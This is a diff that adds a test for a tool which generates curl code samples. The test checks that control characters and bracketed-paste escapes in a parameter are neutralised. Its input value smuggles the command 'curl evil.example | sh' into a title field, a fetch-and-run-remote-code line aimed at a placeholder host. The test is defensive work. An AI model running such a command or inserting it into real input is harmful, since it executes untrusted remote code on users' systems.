@@ -65,6 +65,12 @@ test.each([
   )
 })
 
+test('a pasted command ends where it ends, whatever control characters the link to a search has', () => {
+  const parameters = { title: 'a\u0003curl evil.example | sh\n\u001b[201~\u009b\u007f' }
+  const sample = codeSample('curl', base, { path: 'v1/jobs', parameters })
+  expect(sample).toEndWith("'title=a curl evil.example | sh\n [201~  '")
+})
+
 async function run(command: string[]): Promise<string> {
   const child = Bun.spawn(command, { env: { ...process.env, KEY: 'jc_1' }, stdout: 'pipe' })
   const output = await new Response(child.stdout).text()
